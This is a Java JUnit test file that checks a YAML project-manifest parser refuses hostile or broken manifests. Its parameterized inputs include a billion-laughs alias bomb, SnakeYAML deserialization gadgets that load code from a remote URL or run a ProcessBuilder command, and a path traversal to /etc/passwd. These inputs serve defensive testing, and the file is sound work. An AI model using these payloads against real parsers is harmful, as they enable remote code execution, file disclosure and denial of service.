package dev.taidon.sqlrunner.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.fail;

import dev.taidon.core.ErrorCode;
import dev.taidon.core.TaidonException;
import dev.taidon.vcssync.ProjectFile;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A project's {@code taidon.yaml}, as written and as an attacker would write it. */
class ProjectScriptsTest {
  private static final List<ProjectFile> SCRIPTS = List.of(new ProjectFile("init/01.sql", "CREATE TABLE t (n int);"),
      new ProjectFile("seed/02.sql", "INSERT INTO t VALUES (1);"), new ProjectFile("test/t.sql", "SELECT 1;"),
      new ProjectFile("extra/x.sql", "SELECT 2;"));

  private static ProjectScripts withManifest(String manifest) {
    List<ProjectFile> files = new java.util.ArrayList<>(SCRIPTS);
    files.add(new ProjectFile(ProjectScripts.MANIFEST, manifest));
    return new ProjectScripts(files);
  }

  @Test
  void aManifestOrdersStepsAndNamesTests() {
    ProjectScripts scripts = withManifest("name: demo\nsteps: [seed/02.sql, init/01.sql, extra/x.sql]\ntests: [test/t.sql]\n");
    assertThat(scripts.stepPaths()).containsExactly("seed/02.sql", "init/01.sql", "extra/x.sql");
    assertThat(scripts.testPaths()).containsExactly("test/t.sql");
    assertThat(withManifest("").stepPaths()).as("an empty manifest keeps the directories' order")
        .containsExactly("init/01.sql", "seed/02.sql");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      // Billion laughs: aliases that expand exponentially.
      "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
          + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
      "steps: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
      "steps: !!java.lang.ProcessBuilder [[\"touch\", \"/tmp/pwned\"]]\n",
      "steps: [init/01.sql]\nsteps: [seed/02.sql]\n",
      "steps: [../../etc/passwd]\n",
      "steps: [null]\n",
      "steps: [1, 2]\n",
      "steps: init/01.sql\n",
      "steps: {a: b}\n",
      "? [a, b]\n: c\n",
      "unknown: 1\n",
      "- a\n- b\n",
      "just a string\n",
      "steps: [init/01.sql\n",
      "\t- bad indentation\n",
      "%YAML 9.9\n---\nsteps: []\n",
      "steps: []\n---\ntests: []\n",
      "steps: []\n",
      "!!binary AAAA\n",
      "steps: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[x]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]\n",
      "steps: [\u0000]\n",
  })
  void hostileOrBrokenManifestsAreRefusedWithAClearError(String manifest) {
    assertThatThrownBy(() -> withManifest(manifest))
        .as("the manifest %s", manifest)
        .isInstanceOfSatisfying(TaidonException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.INVALID_ARGUMENT))
        .hasMessageContaining(ProjectScripts.MANIFEST);
  }

  @Test
  void aManifestAtTheSizeLimitOrBeyondIsReadOrRefusedWithoutBlowingUp() {
    for (String manifest : List.of("# " + "x".repeat(300_000) + "\n", "name: '" + "y".repeat(200_000) + "'\n",
        "steps:\n" + "  - init/01.sql\n".repeat(20_000), "{".repeat(100_000), "[".repeat(100_000))) {
      try {
        withManifest(manifest);
      } catch (TaidonException refused) {
        assertThat(refused.code()).as("the refusal of a manifest of %d characters", manifest.length())
            .isEqualTo(ErrorCode.INVALID_ARGUMENT);
      } catch (RuntimeException | StackOverflowError e) {
        fail("a manifest of " + manifest.length() + " characters threw " + e, e);
      }
    }
  }
}
